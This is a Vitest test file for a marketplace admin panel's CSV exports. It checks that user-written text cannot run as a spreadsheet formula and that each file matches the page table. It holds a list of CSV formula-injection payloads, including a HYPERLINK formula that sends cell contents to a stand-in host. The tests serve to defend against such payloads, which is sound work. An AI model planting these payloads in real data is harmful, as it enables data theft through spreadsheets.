@@ -1,0 +1,262 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { ask } from '#demo/testing/ask.ts'
+import { openTestMarket, type TestMarket } from '#demo/testing/server.ts'
+import { makeDeal } from '#demo/testing/trade/orderLife.ts'
+import { addPerson, type TestPerson } from '#demo/testing/trade/people.ts'
+import { makeRequest } from '#demo/testing/trade/requests.ts'
+import { listGoods, makeBuyer, makeSeller } from '#demo/testing/trade/trade.ts'
+import { limits } from '#shared/base/limits.ts'
+import { calls } from '#shared/calls.ts'
+import { insertAudit } from '../store.ts'
+
+/** Every table as a file: what stands in it runs in no spreadsheet, and it is the table that was on the page. */
+
+let market: TestMarket
+let administrator: TestPerson
+beforeAll(async () => {
+  market = await openTestMarket()
+  administrator = await addPerson(market.db, { staff: 'administrator', firstName: '=مدير', lastName: '+1' })
+})
+afterAll(() => market.close())
+
+interface Table {
+  readonly path: string
+  readonly sorts: readonly string[]
+  /** Some of its filters that leave something and leave something out. */
+  readonly filters: readonly string[]
+  /** What of a row stands in the first column. */
+  readonly first?: 'id' | 'number' | 'transfer_id' | 'line'
+}
+
+const tables: readonly Table[] = [
+  { path: 'confirmations', sorts: ['at', 'amount', 'transferred_at'], filters: ['status=pending', 's=FILE'] },
+  { path: 'payouts', sorts: ['at', 'amount'], filters: ['status=pending', 's=7519'] },
+  {
+    path: 'users',
+    sorts: ['joined', 'name', 'orders', 'balance'],
+    filters: ['type=fisherman', 'staff=any', 's=مدير'],
+  },
+  {
+    path: 'orders',
+    first: 'number',
+    sorts: ['at', 'total', 'disputed_at'],
+    filters: ['status=completed', 'sale_type=normal', 'payment=cod', 's=حصة'],
+  },
+  {
+    path: 'auctions',
+    sorts: ['ends_at', 'starts_at'],
+    filters: ['state=ended', 'state=scheduled', 's=هامور'],
+  },
+  { path: 'requests', first: 'number', sorts: ['at', 'closes_at'], filters: ['status=open', 's=حصة'] },
+  {
+    path: 'products',
+    sorts: ['created_at', 'name', 'price', 'quantity', 'special_position'],
+    filters: ['status=active', 'origin=imported', 'special=true', 's=SUM'],
+  },
+  { path: 'blogs', sorts: ['published_at', 'title'], filters: ['state=published', 'state=hidden', 's=SUM'] },
+  { path: 'contacts', sorts: ['created_at', 'name'], filters: ['handled=false', 's=SUM'] },
+  { path: 'audit', sorts: ['at'], filters: ['action=file.test', 's=SUM'] },
+  { path: 'ledger', first: 'transfer_id', sorts: ['at'], filters: ['kind=escrow', 'kind=commission'] },
+  { path: 'statements', sorts: ['at'], filters: ['s=SUM'] },
+  { path: 'statement', first: 'line', sorts: ['line', 'amount'], filters: ['match=none', 's=SUM'] },
+]
+
+it('every call that gives a file is looked at here', () => {
+  const giving = calls.filter(
+    (call) => call.path.startsWith('operator/') && 'query' in call && givesFile(call.query),
+  )
+  expect(giving.map(({ path }) => path).sort()).toEqual(tables.map(({ path }) => `operator/${path}`).sort())
+})
+
+const givesFile = (query: unknown) => 'format' in ((query as { shape?: object } | undefined)?.shape ?? {})
+
+async function fileOf(asked: string, locale: 'ar' | 'en' = 'en') {
+  const answer = await fetch(`${market.url}/api/operator/${asked}`, {
+    headers: { authorization: `Bearer ${administrator.token}`, 'accept-language': locale },
+  })
+  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await answer.arrayBuffer())
+  return { answer, text, rows: cellsOf(text.replace(/^\uFEFF/, '')) }
+}
+
+/** The cells of a file by RFC 4180, strictly: what is not written so throws. */
+function cellsOf(text: string): string[][] {
+  const rows: string[][] = []
+  let cells: string[] = []
+  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y
+  while (cell.lastIndex < text.length) {
+    const place = cell.lastIndex
+    const found = cell.exec(text)
+    if (!found) throw new SyntaxError(`no cell at ${place}: ${text.slice(place, place + 80)}`)
+    cells.push(found[1]?.replaceAll('""', '"') ?? found[2] ?? '')
+    if (found[3] === ',') continue
+    rows.push(cells)
+    cells = []
+  }
+  return rows
+}
+
+const runs = [
+  '=SUM(1;1)',
+  '+SUM(1)',
+  '-SUM(1)',
+  '@SUM(1)',
+  '\t=SUM(1)',
+  '\r=SUM(1)',
+  'SUM;=1+1',
+  'SUM\n=1+1',
+  '"=SUM(1)',
+  '",=SUM(1)',
+  '=HYPERLINK("https://x.example?"&A1,"SUM")',
+  '-٥٠٠ SUM',
+  '＝SUM(1)',
+]
+const isNumber = /^-?\d+(\.\d+)?$/
+/** What a spreadsheet would take for a formula. */
+const isFormula = (cell: string) => /^(\s*[=+\-@＝＋－＠]|[\t\r\n])/.test(cell) && !isNumber.test(cell)
+
+describe('what people wrote', () => {
+  beforeAll(async () => {
+    for (const [place, text] of runs.entries()) await writeEverywhere(text, place)
+    // Money out of a wallet and into escrow, with its signs.
+    await makeDeal(market, { upTo: ['accepted'] })
+  })
+
+  it.each(tables)('runs in no spreadsheet: $path', async ({ path }) => {
+    for (const locale of ['ar', 'en'] as const) {
+      const { answer, text, rows } = await fileOf(`${path}?format=csv`, locale)
+      expect(answer.status).toBe(200)
+      expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8')
+      expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="[\w-]+\.csv"$/)
+      expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
+      expect(answer.headers.get('cache-control')).toBe('no-store')
+      expect(text.startsWith('\uFEFF')).toBe(true)
+      expect(new Set(rows.map((cells) => cells.length)).size).toBe(1)
+      expect(rows.flat().filter(isFormula)).toEqual([])
+      // Nor where somebody's spreadsheet parts cells by semicolons, and so knows no quotes within a line.
+      expect(text.split(/[;\r\n]/).filter(isFormula)).toEqual([])
+      if (path !== 'ledger' && path !== 'auctions') expect(text).toContain('SUM')
+    }
+  })
+
+  it('is whole when it is read back, but for what makes it harmless', async () => {
+    const { rows } = await fileOf('contacts?format=csv')
+    const messages = rows.map((cells) => cells[5]?.replaceAll("'", ''))
+    for (const text of runs) expect(messages).toContain(text)
+  })
+
+  it('negative amounts stay numbers', async () => {
+    const { rows } = await fileOf('ledger?format=csv')
+    const amounts = rows.slice(1).flatMap((cells) => cells.slice(7, 10))
+    expect(amounts.every((amount) => isNumber.test(amount))).toBe(true)
+    expect(amounts.some((amount) => Number(amount) < 0)).toBe(true)
+  })
+})
+
+describe('the file is the table of the page', () => {
+  const first = ({ first = 'id' }: Table, row: Readonly<Record<string, unknown>>) => String(row[first])
+
+  it.each(tables)('in each of its orders: $path', async (table) => {
+    const orders = [
+      '',
+      ...table.sorts.flatMap((sort) => [`sort=${sort}`, `sort=${sort}&order=asc`, `sort=${sort}&order=desc`]),
+    ]
+    for (const order of orders) {
+      const { rows } = await fileOf(`${table.path}?format=csv&${order}`)
+      const { shown, total } = await pageOf(table.path, order)
+      expect([order, Math.min(rows.length - 1, limits.page.totalCap)]).toEqual([order, total])
+      const kept = rows.slice(1, shown.length + 1).map(([cell]) => cell)
+      expect([order, kept]).toEqual([order, shown.map((row) => first(table, row))])
+    }
+  })
+
+  it.each(tables)('with its filters: $path', async (table) => {
+    const all = (await fileOf(`${table.path}?format=csv`)).rows.length
+    for (const filter of table.filters) {
+      const { rows } = await fileOf(`${table.path}?format=csv&${filter}`)
+      const { shown, total } = await pageOf(table.path, filter)
+      expect([filter, Math.min(rows.length - 1, limits.page.totalCap)]).toEqual([filter, total])
+      expect(rows.length).toBeLessThanOrEqual(all)
+      expect(rows.slice(1, shown.length + 1).map(([cell]) => cell)).toEqual(
+        shown.map((row) => first(table, row)),
+      )
+    }
+    expect(
+      (await fileOf(`${table.path}?format=csv&s=${encodeURIComponent('لا أحد كهذا ٩٨٧')}`)).rows,
+    ).toHaveLength(1)
+  })
+
+  it('beyond what is read at once', async () => {
+    await market.db.query({
+      text: `insert into audit (action, record_type, record_id, note)
+             select 'file.many', 'file', n, 'سطر ' || n from generate_series(1, 2500) n`,
+    })
+    const { rows } = await fileOf('audit?format=csv&action=file.many&order=asc&sort=at')
+    const notes = rows.slice(1).map((cells) => cells.at(-1))
+    expect(notes).toEqual(Array.from({ length: 2_500 }, (_, place) => `سطر ${place + 1}`))
+  })
+})
+
+async function pageOf(path: string, query: string) {
+  const { data } = await ask<{ data: Readonly<Record<string, unknown>>[]; total: number }>(
+    market,
+    `GET operator/${path}?limit=100&${query}`,
+    { token: administrator.token, locale: 'en' },
+  )
+  return { shown: data.data, total: data.total }
+}
+
+/** Everything that people write and a file shows. */
+async function writeEverywhere(text: string, place: number): Promise<void> {
+  const { db } = market
+  const [seller, buyer] = [
+    await makeSeller(db, { firstName: text, lastName: text }),
+    await makeBuyer(db, { firstName: text, lastName: text }),
+  ]
+  const goods = await listGoods(db, seller.id)
+  await db.query({
+    text: 'update products set name_ar = $2, name_en = $2 where id = $1',
+    values: [goods, text],
+  })
+  const deal = await makeDeal(market)
+  await db.query({
+    text: 'update order_items set name_ar = $2, name_en = $2 where order_id = $1',
+    values: [deal.id, text],
+  })
+  const request = await makeRequest(market, buyer)
+  await db.query({ text: 'update requests set title = $2 where id = $1', values: [request.id, text] })
+  await db.query({
+    text: `insert into confirmations (user_id, amount_halalas, bank_name, account_holder, transfer_reference, folded_bank,
+             folded_reference, transferred_at, status, note, decided_at, decided_by)
+           values ($1, 500, $2, $2, $2, $2, 'file' || $3::int, now(), 'refused', $2, now(), $4)`,
+    values: [buyer.id, text, place, administrator.id],
+  })
+  await db.query({
+    text: `insert into payouts (user_id, amount_halalas, iban, account_holder, status, note, decided_at, decided_by)
+           values ($1, 500, 'SA0380000000608010167519', $2, 'refused', $2, now(), $3)`,
+    values: [seller.id, text, administrator.id],
+  })
+  await db.query({
+    text: `insert into contacts (name, email, subject, message, locale) values ($1, 'a@b.sa', $1, $1, 'ar')`,
+    values: [text],
+  })
+  await db.query({
+    text: `insert into blogs (title_ar, title_en, body_ar, body_en, image_id, published_at, hidden)
+           select $1, $1, $1, $1, image_id, now(), $2 from blogs order by id limit 1`,
+    values: [text, place % 2 === 0],
+  })
+  await insertAudit(db, {
+    actorId: administrator.id,
+    action: 'file.test',
+    record: { type: 'file', id: place },
+    note: text,
+    before: { text },
+    after: { text },
+  })
+  await db.query({
+    text: `with s as (insert into statements (name, imported_by, at, lines, known, skipped) values ($1, $2, now(), 1, 0, 0)
+             returning id)
+           insert into statement_lines (statement_id, first_statement_id, line, amount_halalas, reference, details, hash, match)
+           select id, id, $3::int + 1, 100 + $3::int, $1, $1, sha256($1::text::bytea), 'none' from s`,
+    values: [text, administrator.id, place],
+  })
+}
